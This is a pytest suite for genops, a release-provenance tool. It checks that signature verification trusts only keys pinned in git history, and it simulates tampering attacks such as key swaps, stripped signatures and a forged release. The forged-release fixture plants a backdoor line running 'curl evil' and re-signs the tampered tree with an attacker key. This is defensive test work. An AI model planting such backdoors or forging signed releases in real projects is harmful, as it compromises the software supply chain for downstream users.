"""The trust root end to end: a release verifies only against keys its history pinned.

Real parts throughout: `genops keygen`, `genops regenerate`, `genops verify` and `genops check` as
subprocesses in a real git repository. Each attack is what an attacker with commit access (or a
writable working tree) but without a pinned private key can do; every one passed `genops verify`
and `genops check` before pinned keys existed, and now fails both, naming the release, key or file.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from release_helpers import change_spec, clean_env, commit_all, genops, make_workspace, tree_files

from genops.audit.keys import key_id, public_pem
from genops.audit.pack import write_pack
from genops.store.tree import tree_files as hash_files
from genops.store.tree import tree_hash

RELEASES = Path(".genops") / "releases"


def _env(venv_cache: Path, **extra: str) -> dict[str, str]:
    return clean_env(GENOPS_VENV_CACHE=str(venv_cache), GENOPS_ALLOW_UNSANDBOXED="1", **extra)


def _workspace(tmp: Path) -> Path:
    """A test workspace whose tests gate runs on this interpreter, outside the sandbox (the trust
    checks are what is under test here, not the suite's isolation)."""
    root = make_workspace(tmp)
    toml = root / "genops.toml"
    text = toml.read_text(encoding="utf-8")
    text = re.sub(r'(?m)^sandbox = "\w+".*$', 'sandbox = "off"', text)
    if 'sandbox = "off"' not in text:
        text = text.replace("[gates.tests]\n", '[gates.tests]\nsandbox = "off"\n')
    toml.write_text(text.replace("[gates.tests]\n", "[gates.tests]\nuse_venv = false\n"),
                    encoding="utf-8")
    commit_all(root, "tests gate on this interpreter")
    return root


def _keygen(root: Path, path: Path, env: dict[str, str], *extra: str) -> str:
    made = genops(root, "keygen", str(path), "--json", *extra, env=env)
    assert made.returncode == 0, made.stdout + made.stderr
    return str(json.loads(made.stdout)["keyid"])


def _release(root: Path, env: dict[str, str], key: Path, reason: str,
             spec: str | None = None, punct: str = "!") -> None:
    """Commit a spec change (when given) and make the next release, signed by `key`."""
    if spec is not None:
        change_spec(root, spec, files=tree_files(punct=punct))
    result = genops(root, "regenerate", "--reason", reason,
                    env={**env, "GENOPS_SIGNING_KEY": str(key)})
    assert result.returncode == 0, result.stdout + result.stderr


def _git(root: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True,
                          text=True, env=clean_env()).stdout


def _snapshot(root: Path) -> Path:
    """A throwaway copy of the workspace (with its git history) to attack."""
    dest = root.parent / f"copy-{os.urandom(4).hex()}"
    subprocess.run(["cp", "-a", str(root), str(dest)], check=True)
    return dest


def _private(path: Path) -> Ed25519PrivateKey:
    key = serialization.load_pem_private_key(path.read_bytes(), password=None)
    assert isinstance(key, Ed25519PrivateKey)
    return key


def _attacker_key(root: Path) -> tuple[Ed25519PrivateKey, str]:
    """A key the attacker holds, its public half dropped into `.genops/keys/`."""
    key = Ed25519PrivateKey.generate()
    keyid = key_id(key.public_key())
    (root / ".genops" / "keys" / f"{keyid}.pub").write_bytes(public_pem(key.public_key()))
    return key, keyid


def _resign(root: Path, release: str, key: Ed25519PrivateKey | None) -> None:
    """Rebuild the release's pack from the working tree's files, signed by `key` (None: unsigned)."""
    write_pack(root, root / RELEASES / release, key=key)


def _rewrite_release_commit(root: Path, release: str) -> None:
    """Rewrite history as an attacker would: the release commit itself now holds the working
    tree, and the tag `genops/<release>` follows it."""
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "--amend", "--no-edit")
    _git(root, "tag", "-f", f"genops/{release}", "HEAD")


@dataclass
class Chain:
    root: Path
    env: dict[str, str]
    key: Path  # the pinned release key's private half
    keyid: str


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory, venv_cache: Path) -> Chain:
    """Three releases, each signed by the one pinned key; genops.toml pins it from the start."""
    tmp = tmp_path_factory.mktemp("trust")
    root = _workspace(tmp)
    env = _env(venv_cache)
    key = tmp / "keys" / "release.pem"
    keyid = _keygen(root, key, env)
    commit_all(root, "the release key, pinned")
    _release(root, env, key, "first")
    _release(root, env, key, "louder", "- **REQ-GREET-3** louder.\n", "!!")
    _release(root, env, key, "loudest", "- **REQ-GREET-4** loudest.\n", "!!!")
    return Chain(root, env, key, keyid)


def _verify(root: Path, env: dict[str, str], *args: str) -> tuple[int, dict[str, Any]]:
    result = genops(root, "verify", "--json", *args, env=env)
    return result.returncode, json.loads(result.stdout)


def _check(root: Path, env: dict[str, str]) -> tuple[int, dict[str, Any]]:
    result = genops(root, "check", "--json", env=env)
    return result.returncode, json.loads(result.stdout)


def _failing_text(report: dict[str, Any]) -> str:
    return "\n".join(f"{c['name']}: {c['detail']}" for c in report["checks"] if not c["ok"])


# --- the attacks -----------------------------------------------------------------------------
# Each returns the strings the failures must name (a release, a key id, a file).


def swapped_key(root: Path, chain: Chain) -> list[str]:
    """The pinned key's .pub replaced by the attacker's, the pack re-signed, history rewritten."""
    for pub in (root / ".genops" / "keys").glob("*.pub"):
        pub.unlink()
    key, keyid = _attacker_key(root)
    _resign(root, "r0003", key)
    _rewrite_release_commit(root, "r0003")
    return [keyid, "provenance.intoto.jsonl", "r0002's commit"]


def stripped_signatures(root: Path, chain: Chain) -> list[str]:
    """Every signature removed from the current release's pack, in its own commit."""
    _resign(root, "r0003", None)
    _rewrite_release_commit(root, "r0003")
    return ["r0003's provenance.intoto.jsonl is unsigned", "r0001 before it was signed"]


def deleted_pack(root: Path, chain: Chain) -> list[str]:
    """The current release's provenance and SBOM deleted, in its own commit."""
    for name in ("provenance.intoto.jsonl", "sbom.cdx.json"):
        (root / RELEASES / "r0003" / name).unlink()
    _rewrite_release_commit(root, "r0003")
    return [".genops/releases/r0003/provenance.intoto.jsonl", "r0001 before it had one"]


def forged_release(root: Path, chain: Chain) -> list[str]:
    """A backdoored tree with a recomputed manifest, the attacker's key pinned and signing the
    pack, committed with the release's trailer, and the tag moved onto it."""
    (root / "generated" / "hello" / "__init__.py").write_text(
        tree_files(punct="!!!")["hello/__init__.py"] + "\nimport os\nos.system('curl evil')\n",
        encoding="utf-8")
    key, keyid = _attacker_key(root)
    toml = root / "genops.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace(chain.keyid, keyid), encoding="utf-8")
    path = root / RELEASES / "r0003" / "manifest.json"
    manifest = json.loads(path.read_text(encoding="utf-8"))
    files = hash_files(root / "generated")
    manifest["output"].update(files=files, tree_sha256=tree_hash(files),
                              gated_tree_sha256=tree_hash(files), file_count=len(files))
    manifest["inputs"]["genops.toml"] = hash_files(root)["genops.toml"]
    path.write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    _resign(root, "r0003", key)
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "genops: release r0003 (regenerate)\n\nGenops-Release: r0003")
    _git(root, "tag", "-f", "genops/r0003", "HEAD")
    return [".genops/releases/r0003/manifest.json", keyid]


def unpinned_key(root: Path, chain: Chain) -> list[str]:
    """The release signed by a key whose .pub its commit holds (as `genops keygen --no-pin`
    leaves it) but whose id nothing pins. (`genops regenerate` refuses to sign with such a key:
    test_promotion_refuses_a_key_not_allowed_to_sign.)"""
    key, keyid = _attacker_key(root)
    _resign(root, "r0003", key)
    _rewrite_release_commit(root, "r0003")
    return [keyid, "which is not pinned", chain.keyid[:16]]


def uncommitted_pub(root: Path, chain: Chain) -> list[str]:
    """The attacker's .pub dropped into the working tree (never committed), the pack re-signed."""
    key, keyid = _attacker_key(root)
    _resign(root, "r0003", key)
    return [f"working tree: .genops/keys/{keyid}.pub", keyid,
            "working tree: .genops/releases/r0003/provenance.intoto.jsonl"]


ATTACKS: list[Callable[[Path, Chain], list[str]]] = [
    swapped_key, stripped_signatures, deleted_pack, forged_release, unpinned_key, uncommitted_pub,
]


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.__name__ for a in ATTACKS])
def test_attack_fails_verify_and_check(chain: Chain, attack: Callable[[Path, Chain], list[str]]) -> None:
    root = _snapshot(chain.root)
    named = attack(root, chain)
    code, report = _verify(root, chain.env)
    failing = _failing_text(report)
    assert code == 1, report
    for what in named:
        assert what in failing, (what, failing)
    code, checked = _check(root, chain.env)
    assert code == 1, checked
    audit = next(r for r in checked["results"] if r["gate"] == "audit")
    assert audit["verdict"] == "fail", audit
    assert report["release"] in audit["summary"]
    findings = "\n".join(f["message"] for f in audit["findings"])
    for what in named:
        assert what in findings, (what, findings)
    code, whole = _verify(root, chain.env, "--all")
    assert code == 1 and not whole["ok"]


def test_untouched_chain_verifies_and_checks(chain: Chain) -> None:
    code, report = _verify(chain.root, chain.env)
    assert code == 0, _failing_text(report)
    assert report["signature"] == "signed" and report["keyids"] == [chain.keyid]
    assert report["trusted_keys"] == [chain.keyid] and "r0002's commit" in report["trusted_keys_from"]
    check = genops(chain.root, "check", env=chain.env)
    assert check.returncode == 0, check.stdout + check.stderr


def test_verify_all_walks_a_three_release_chain(chain: Chain) -> None:
    code, whole = _verify(chain.root, chain.env, "--all")
    assert code == 0, whole
    assert [r["release"] for r in whole["releases"]] == ["r0001", "r0002", "r0003"]
    assert [r["chain"] for r in whole["releases"]] == ["linked"] * 3
    assert all(r["signature"] == "signed" for r in whole["releases"])
    assert chain.keyid in whole["trust_root"] and "r0001's commit" in whole["trust_root"]
    manifests = [json.loads((chain.root / RELEASES / r / "manifest.json").read_text())
                 for r in ("r0001", "r0002", "r0003")]
    assert manifests[0]["parent_pack_sha256"] is None
    for parent, child in zip(("r0001", "r0002"), manifests[1:], strict=True):
        pack = (chain.root / RELEASES / parent / "provenance.intoto.jsonl").read_bytes()
        import hashlib

        assert child["parent_pack_sha256"] == hashlib.sha256(pack).hexdigest()
        assert "legacy_anchors" not in child
    text = genops(chain.root, "verify", "--all", env=chain.env)
    assert text.returncode == 0, text.stdout + text.stderr
    assert "r0001..r0003: 3 release(s) verified in parent order" in text.stdout


def test_moving_a_tag_changes_nothing_verify_trusts(chain: Chain) -> None:
    """The tag of the current release moved onto its parent's commit: verify reads the commit
    from the manifest and trailer, so the verdict is the same."""
    root = _snapshot(chain.root)
    _git(root, "tag", "-f", "genops/r0003", "genops/r0002")
    code, report = _verify(root, chain.env)
    assert code == 0, _failing_text(report)
    assert report["commit"] == _git(chain.root, "rev-parse", "genops/r0003^{commit}").strip()


def test_rotation_hands_trust_to_the_new_key(tmp_path: Path, venv_cache: Path) -> None:
    """r0001 signed by the old key; r0002 signed by the old key pins only the new one (the
    rotation release); r0003 signed by the new key verifies, the retired key no longer does."""
    root = _workspace(tmp_path)
    env = _env(venv_cache)
    old, new = tmp_path / "keys" / "old.pem", tmp_path / "keys" / "new.pem"
    old_id = _keygen(root, old, env)
    commit_all(root, "the first release key")
    _release(root, env, old, "first")
    new_id = _keygen(root, new, env)  # pinned beside the old one
    toml = root / "genops.toml"
    toml.write_text(re.sub(rf'\s*"{old_id}",', "", toml.read_text(encoding="utf-8")),
                    encoding="utf-8")
    commit_all(root, "rotate: pin only the new key")
    _release(root, env, old, "rotation, signed by the old key",
              "- **REQ-GREET-3** louder.\n", "!!")
    change_spec(root, "- **REQ-GREET-4** loudest.\n", files=tree_files(punct="!!!"))
    refused = genops(root, "regenerate", "--reason", "the retired key",
                     env={**env, "GENOPS_SIGNING_KEY": str(old)})
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert f"signing key {old_id} may not sign this release" in " ".join(refused.stderr.split())
    _release(root, env, new, "first release signed by the new key")
    code, whole = _verify(root, env, "--all")
    assert code == 0, whole
    assert [r["keyids"] for r in whole["releases"]] == [[old_id], [old_id], [new_id]]
    assert whole["releases"][2]["trusted_keys"] == [new_id]
    assert [r["chain"] for r in whole["releases"]] == ["linked"] * 3
    retired = _snapshot(root)  # the retired key re-signs r0003 in its own commit
    _resign(retired, "r0003", _private(old))
    _rewrite_release_commit(retired, "r0003")
    code, report = _verify(retired, env)
    assert code == 1
    assert f"signed by key {old_id}, which is not pinned" in _failing_text(report)
    assert "r0002's commit" in _failing_text(report)


def test_promotion_refuses_a_key_not_allowed_to_sign(chain: Chain, tmp_path: Path) -> None:
    """A release that would not verify is never made: no key while keys are pinned, or a key
    nothing pins (its .pub committed or not); generated/ and HEAD stay as they were."""
    root = _snapshot(chain.root)
    change_spec(root, "- **REQ-GREET-5** even louder.\n", files=tree_files(punct="!!!!"))
    other = tmp_path / "other.pem"
    other_id = _keygen(root, other, chain.env, "--no-pin")
    commit_all(root, "a key committed but not pinned")
    head = _git(root, "rev-parse", "HEAD")
    for key, named in ((None, "and no signing key is set"),
                       (other, f"signing key {other_id} may not sign this release")):
        env = {**chain.env, "GENOPS_SIGNING_KEY": str(key)} if key else chain.env
        result = genops(root, "regenerate", "--reason", "refused", env=env)
        assert result.returncode == 2, result.stdout + result.stderr
        assert named in " ".join(result.stderr.split())
        assert chain.keyid in " ".join(result.stderr.split())
        assert _git(root, "rev-parse", "HEAD") == head
        assert not (root / RELEASES / "r0004").exists()


def test_legacy_releases_enter_the_chain_and_links_cannot_be_dropped(
        tmp_path: Path, venv_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Like this repository: r0001 and r0002 signed before keys were pinned and before chain
    links. Once HEAD pins the key they verify against that pin; r0003, the first release whose
    commit pins it, becomes the trust root (and theirs), anchors both by digest; a later manifest
    without the link fails."""
    import genops.release.manifest as manifest_module
    from genops.audit.keys import pin_key

    root = _workspace(tmp_path)
    env = _env(venv_cache)
    key = tmp_path / "keys" / "release.pem"
    keyid = _keygen(root, key, env, "--no-pin")
    commit_all(root, "key, not pinned (before pins existed)")
    real = manifest_module.chain_link

    def legacy(*_: Any, **__: Any) -> dict[str, Any]:
        return {}

    def in_process(reason: str, spec: str | None = None, punct: str = "!") -> None:
        from genops.release.pipeline import regenerate
        from genops.workspace import load_workspace

        if spec is not None:
            change_spec(root, spec, files=tree_files(punct=punct))
        for name, value in {**env, "GENOPS_SIGNING_KEY": str(key)}.items():
            if name.startswith(("GIT_", "GENOPS_")):
                monkeypatch.setenv(name, value)
        regenerate(load_workspace(root), reason=reason)

    monkeypatch.setattr(manifest_module, "chain_link", legacy)
    in_process("first")
    in_process("louder", "- **REQ-GREET-3** louder.\n", "!!")
    code, whole = _verify(root, env, "--all")
    assert code == 1 and f"signed by key {keyid}, which is not pinned" in json.dumps(whole)
    toml = root / "genops.toml"
    toml.write_text(pin_key(toml.read_text(encoding="utf-8"), keyid), encoding="utf-8")
    commit_all(root, "pin the key")
    code, whole = _verify(root, env, "--all")
    assert code == 0, whole
    assert "at HEAD" in whole["trust_root"] and keyid in whole["trust_root"]
    monkeypatch.setattr(manifest_module, "chain_link", real)
    _release(root, env, key, "first linked", "- **REQ-GREET-4** loudest.\n", "!!!")
    anchors = json.loads((root / RELEASES / "r0003" / "manifest.json").read_text())["legacy_anchors"]
    assert sorted(anchors) == ["r0001", "r0002"]
    code, whole = _verify(root, env, "--all")
    assert code == 0, whole
    assert [r["chain"] for r in whole["releases"]] == ["before the chain"] * 2 + ["linked"]
    assert "r0003's commit" in whole["trust_root"] and "HEAD" not in whole["trust_root"]
    assert all("r0003" in r["trusted_keys_from"] for r in whole["releases"])
    monkeypatch.setattr(manifest_module, "chain_link", legacy)
    in_process("leaves the chain", "- **REQ-GREET-5** even louder.\n", "!!!!")
    code, report = _verify(root, env)
    assert code == 1
    assert "r0004's manifest records no parent_pack_sha256, but r0003" in _failing_text(report)
